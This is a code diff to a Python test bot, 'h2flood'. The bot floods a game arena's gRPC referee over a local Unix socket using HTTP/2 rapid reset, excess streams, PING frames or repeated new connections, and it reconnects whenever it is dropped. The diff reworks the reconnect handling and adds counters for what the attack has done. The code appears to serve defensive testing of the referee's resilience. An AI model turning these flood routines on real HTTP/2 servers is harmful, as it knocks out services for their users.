@@ -9,13 +9,15 @@ each time) and, between its replies, sends without pause:
   rst      new streams, each reset at once (the HTTP/2 "rapid reset" attack)
   streams  new streams that stay open, past the announced MAX_CONCURRENT_STREAMS
   ping     PING frames
-  conns    new connections (handshake, then a HEADERS+RST pair), one after another
-  quiet    nothing: the same bot without the attack, to compare with
+  conns    new connections (each a handshake and a HEADERS+RST pair), one after another
+  quiet    nothing: the same bot, as busy, without the attack, to compare with
 
 When the referee closes its connection it connects again and goes on attacking; it never
 says hello again, so its seat has failed. With CPU, it runs on that CPU only (the tests put
 it beside the match, so that they measure what the referee pays, not the attacker's own
-CPU). It writes how many frames it sent to stderr every half second.
+CPU). It writes to stderr how many frames (or connections) it sent, how many of its extra
+connections the socket took, and how often it tried to connect again: every half second,
+and each time the referee closes its connection.
 """
 
 from __future__ import annotations
@@ -42,6 +44,17 @@ PATH = os.environ["ARENA_SOCKET"].removeprefix("unix://")
 HEADERS = [(":method", "POST"), (":scheme", "http"), (":path", "/arena.v1.Referee/Play"),
            (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
 BATCH = 50  # attack frames per pass of the loop
+counts = {"sent": 0, "taken": 0, "reconnects": 0}
+told = time.monotonic()
+
+
+def report(now: bool = False) -> None:
+    """What the attack has done so far, every half second (or ``now``)."""
+    global told
+    if now or time.monotonic() - told > 0.5:
+        told = time.monotonic()
+        print(f"h2flood {ATTACK}: {counts['sent']} sent, {counts['taken']} extra connection(s) taken, "
+              f"{counts['reconnects']} reconnect(s) tried", file=sys.stderr, flush=True)
 
 
 class Reckless(h2.connection.H2Connection):
@@ -53,17 +66,16 @@ class Reckless(h2.connection.H2Connection):
 
 
 def connect() -> tuple[socket.socket, Reckless]:
-    while True:
-        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
-        try:
-            sock.connect(PATH)
-            break
-        except OSError:
-            sock.close()
-            time.sleep(0.001)
-    conn = Reckless(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
-    conn.initiate_connection()
-    sock.sendall(conn.data_to_send())
+    """A connection with the HTTP/2 preface sent (OSError if the socket refuses it)."""
+    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    try:
+        sock.connect(PATH)
+        conn = Reckless(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+        conn.initiate_connection()
+        sock.sendall(conn.data_to_send())
+    except OSError:
+        sock.close()
+        raise
     return sock, conn
 
 
@@ -83,39 +95,43 @@ def attack(conn: Reckless) -> None:
             conn.ping(os.urandom(8))
 
 
-def flood_connections() -> None:
-    """One short-lived connection after another."""
-    with contextlib.suppress(OSError):  # refused: the referee closed it
+def extra_connection() -> bool:
+    """One short-lived connection; whether the socket took it."""
+    try:
         sock, conn = connect()
-        with sock:
-            conn.send_headers(conn.get_next_available_stream_id(), HEADERS)
-            conn.reset_stream(1)
-            sock.sendall(conn.data_to_send())
+    except OSError:
+        return False
+    with sock, contextlib.suppress(OSError):  # the referee may close it at once
+        conn.send_headers(conn.get_next_available_stream_id(), HEADERS)
+        conn.reset_stream(1)
+        sock.sendall(conn.data_to_send())
+    return True
 
 
 def play(hello: bool) -> None:
+    """Plays (with a hello first, if ``hello``) and attacks on one new connection until the
+    referee closes it; OSError if the socket refuses the connection."""
     sock, conn = connect()
     game = conn.get_next_available_stream_id()
     if hello:
         conn.send_headers(game, HEADERS)
         conn.send_data(game, grpc_frame(pb.BotMessage(hello=pb.Hello(name="h2flood", version="1",
                                                                       protocol_version=1))))
-        sock.sendall(conn.data_to_send())
     buffer = b""
-    sent, told = 0, time.monotonic()
-    with sock:
+    with sock, contextlib.suppress(OSError, h2.exceptions.ProtocolError):
         while True:
+            sock.sendall(conn.data_to_send())
+            report()
             if ATTACK == "conns":
-                flood_connections()
-                sent += 1
+                counts["taken"] += extra_connection()
+                counts["sent"] += 1
             elif ATTACK != "quiet":
                 attack(conn)
-                sent += BATCH
-            readable = select.select([sock], [], [], 0)[0]
-            if readable:
+                counts["sent"] += BATCH
+            if select.select([sock], [], [], 0)[0]:
                 data = sock.recv(65536)
                 if not data:
-                    return  # closed by the referee: connect again
+                    return
                 for event in conn.receive_data(data):
                     if isinstance(event, h2.events.DataReceived):
                         conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
@@ -130,19 +146,15 @@ def play(hello: bool) -> None:
                 if msg.WhichOneof("message") == "decision":
                     reply = pb.Reply(decision_id=msg.decision.decision_id, action=msg.decision.legal_actions[0])
                     conn.send_data(game, grpc_frame(pb.BotMessage(reply=reply)))
-            try:
-                sock.sendall(conn.data_to_send())
-            except OSError:
-                return
-            if time.monotonic() - told > 0.5:
-                print(f"h2flood {ATTACK}: {sent} sent", file=sys.stderr, flush=True)
-                told = time.monotonic()
 
 
 hello = True
 while True:
     try:
         play(hello)
-    except (OSError, h2.exceptions.ProtocolError) as exc:
-        print(f"h2flood {ATTACK}: {type(exc).__name__}: {exc}", file=sys.stderr, flush=True)
+        report(now=True)  # the referee closed the connection
+    except OSError:  # the socket refused a new connection
+        counts["reconnects"] += 1
+        time.sleep(0.001)
     hello = False
+    report()
